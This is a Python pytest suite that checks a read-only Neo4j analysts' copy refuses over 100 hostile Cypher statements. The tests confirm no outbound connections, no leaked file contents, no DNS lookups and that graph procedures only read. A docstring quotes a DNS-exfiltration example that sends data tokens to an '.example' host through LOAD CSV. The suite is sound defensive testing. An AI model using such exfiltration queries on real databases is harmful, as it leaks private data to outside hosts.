"""The analysts' copy answers, and does nothing else: each hostile statement is refused and leaves no trace."""

import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import neo4j
import pytest
from neo4j.exceptions import ClientError, DatabaseError

from graphsvc.graph.neo4j.guide import questions
from graphsvc.local_neo4j.jars import Jars
from graphsvc.local_neo4j.server import LocalServer
from graphsvc.local_neo4j.server_home import Memory, ServerHome
from graphsvc.model.progress import silent
from graphsvc.settings import Settings
from graphsvc.wiring import open_service
from tests.projecting.hostile import STATEMENTS
from tests.servers.neo4j import QUICK_START
from tests.story.feeds import write_world

pytestmark = [pytest.mark.xdist_group("neo4j"), pytest.mark.timeout(600)]

CANARY = "canary-in-a-file"
REFUSED = ("Neo.ClientError.", "Neo.DatabaseError.Statement.")


@pytest.fixture(scope="module")
def copy(java: Path, neo4j_jars: Jars, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalServer]:
    """The copy of a small world's graph, made by the verb."""
    place = tmp_path_factory.mktemp("analysts")
    settings = Settings(home=place / "home", neo4j_heap_mib=512, neo4j_page_cache_mib=64)
    with open_service(settings) as service:
        service.load([write_world(place / "feeds")], kind=None, feed_id="default")
        service.analyse(as_of=None)
        servers = service.projecting.servers
        local = replace(servers.local, jvm_options=QUICK_START)
        desk = replace(service.projecting, servers=replace(servers, local=local, runtime=lambda _: (java, neo4j_jars)))
        made = desk.analysts()
        loaded, status = made.refresh(silent)
        assert status.runs
        assert loaded.numbers > 0
        assert servers.local.status().state == "stopped", "the projection's own server is not needed for it"
        (made.server.home.imports / "canary.csv").write_text(CANARY)
        yield made.server
        made.server.stop(kill=True)


@pytest.fixture
def session(copy: LocalServer) -> Iterator[neo4j.Session]:
    address = copy.address()
    assert address is not None
    with (
        neo4j.GraphDatabase.driver(address.bolt, auth=(address.user, address.password)) as driver,
        driver.session(default_access_mode=neo4j.WRITE_ACCESS) as opened,
    ):
        yield opened


@pytest.fixture
def listener() -> Iterator["Listener"]:
    """One of its own for each test: in whatever order they run, it counts no knock of another."""
    with Listener() as listening:
        yield listening


class Listener:
    """Counts who knocks, on every address of this machine, by both protocols."""

    def __enter__(self) -> "Listener":
        self.knocks = 0
        self.socket = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        self.port = int(self.socket.getsockname()[1])
        threading.Thread(target=self._count, daemon=True).start()
        return self

    def _count(self) -> None:
        while True:
            try:
                came, _ = self.socket.accept()
            except OSError:
                return
            self.knocks += 1
            came.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nstolen")
            came.close()

    def __exit__(self, *leaving: object) -> None:
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


def everything(session: neo4j.Session) -> list[object]:
    """Counts of all there is, and of what the statements would plant."""
    counted = session.run(
        "MATCH (n) WITH count(n) AS nodes, sum(size(keys(n))) AS said, sum(size(labels(n))) AS labels "
        "MATCH ()-[r]->() RETURN nodes, said, labels, count(r), sum(size(keys(r)))"
    ).single(strict=True)
    schema = session.run("SHOW INDEXES YIELD name RETURN count(*)").single(strict=True)
    databases = session.run("SHOW DATABASES YIELD name RETURN count(*)").single(strict=True)
    return [*counted.values(), *schema.values(), *databases.values()]


def test_there_are_many_hostile_statements_and_all_are_refused(
    session: neo4j.Session, listener: Listener, copy: LocalServer
) -> None:
    assert len(set(STATEMENTS)) == len(STATEMENTS) > 100
    before = everything(session)
    files_before = {path for path in copy.home.path.rglob("*") if path.is_file() and "logs" not in path.parts}
    went_through, refusals = [], []
    for statement in STATEMENTS:
        try:
            rows = [record.values() for record in session.run(statement.replace("PORT", str(listener.port)))]
        except (ClientError, DatabaseError) as refused:
            refusals.append((statement, refused.code or "", str(refused)))
        else:
            went_through.append((statement, rows[:1]))
    assert went_through == []
    assert [refusal for refusal in refusals if not refusal[1].startswith(REFUSED)] == []
    assert not [said for _, _, said in refusals if CANARY in said or "root:" in said], "a refusal quotes no file"
    assert listener.knocks == 0
    assert everything(session) == before
    files_after = {path for path in copy.home.path.rglob("*") if path.is_file() and "logs" not in path.parts}
    made = {path.relative_to(copy.home.path).parts[:2] for path in files_after - files_before}
    assert made <= {("data", "transactions"), ("data", "databases")}, "nothing was exported"


def test_the_listener_would_have_noticed(listener: Listener) -> None:
    knocks = listener.knocks
    for address in (("127.0.0.1", listener.port), ("::1", listener.port)):
        with socket.create_connection(address, timeout=60) as asked:
            assert asked.recv(4) == b"HTTP"
    for _ in range(1_200):
        if listener.knocks == knocks + 2:
            break
        time.sleep(0.05)
    assert listener.knocks == knocks + 2


def test_no_name_is_looked_up(session: neo4j.Session, listener: Listener, copy: LocalServer) -> None:
    """What is looked up is told to a name server: `LOAD CSV FROM 'http://' + n.token + '.example'` would say it."""

    def refusal_of(name: str) -> str:
        with pytest.raises(ClientError) as refused:
            session.run(f"LOAD CSV FROM 'http://{name}:{listener.port}/x.csv' AS row RETURN row").consume()
        return str(refused.value)

    copy.home.names.write_text("127.0.0.1 put-there-by-the-test\n")
    assert "is blocked via" in refusal_of("put-there-by-the-test"), "names come from this file; addresses are refused"
    ours = socket.gethostname()
    if ours != "localhost" and known(ours):  # by whatever way this machine knows itself: the copy does not go it
        assert "Couldn't load the external resource" in refusal_of(ours)
    assert listener.knocks == 0


def known(name: str) -> bool:
    try:
        socket.gethostbyname(name)
    except OSError:
        return False
    return True


def test_every_procedure_of_graph_data_science_that_it_has_only_looks(session: neo4j.Session) -> None:
    rows = session.run("SHOW PROCEDURES YIELD name, mode WHERE name STARTS WITH 'gds.' RETURN name, mode")
    there = {row["name"]: row["mode"] for row in rows}
    assert len(there) > 50
    assert set(there.values()) <= {"READ", "DEFAULT"}, "none writes, changes the schema or administers"
    ends = (".stream", ".stats", ".estimate")
    rest = {name for name in there if not name.endswith(ends) and not name.startswith("gds.util.")}
    assert rest <= {"gds.list", "gds.version", *(f"gds.graph.{verb}" for verb in ("project", "list", "exists", "drop"))}


def test_graph_data_science_answers_on_it(session: neo4j.Session) -> None:
    made = session.run(
        "MATCH (a:Number)-[:CONTACTED]->(b:Number) "
        "RETURN gds.graph.project('g', a, b, {}, {undirectedRelationshipTypes: ['*']}).nodeCount AS nodes"
    ).single(strict=True)
    found = session.run(
        "CALL gds.leiden.stream('g') YIELD nodeId, communityId RETURN count(nodeId), count(DISTINCT communityId)"
    ).single(strict=True)
    assert found.values()[0] == made["nodes"]
    assert 1 < found.values()[1] < made["nodes"]
    session.run("CALL gds.graph.drop('g') YIELD graphName RETURN graphName").consume()


def test_the_questions_for_browser_run_on_it(session: neo4j.Session) -> None:
    values = {"token": "v1.none", "reference": "none", "limit": 10, "days": 30}
    for question in questions():
        session.run(question.text, values).consume()
    fresh = session.run(next(question.text for question in questions() if "fresh" in question.name)).single(strict=True)
    assert fresh["analysis"] == "A1"


def test_users_can_be_added_which_is_why_each_refresh_begins_anew(
    session: neo4j.Session, copy: LocalServer, java: Path, neo4j_jars: Jars, tmp_path: Path
) -> None:
    # The system database of Community takes this from whoever logs in; docs/neo4j.md says so.
    session.run("CREATE USER planted SET PASSWORD 'planted-word' CHANGE NOT REQUIRED").consume()
    session.run("DROP USER planted").consume()
    session.run("ALTER DATABASE neo4j SET DEFAULT LANGUAGE CYPHER 25").consume()
    server = replace(copy, home=ServerHome(tmp_path / "anew"), memory=Memory(256, 32))
    server.make_anew(java, neo4j_jars)
    first = server.home.password()
    (server.home.path / "data" / "databases").mkdir()
    server.make_anew(java, neo4j_jars)
    assert first
    assert server.home.password() != first
    assert not (server.home.path / "data" / "databases").exists()
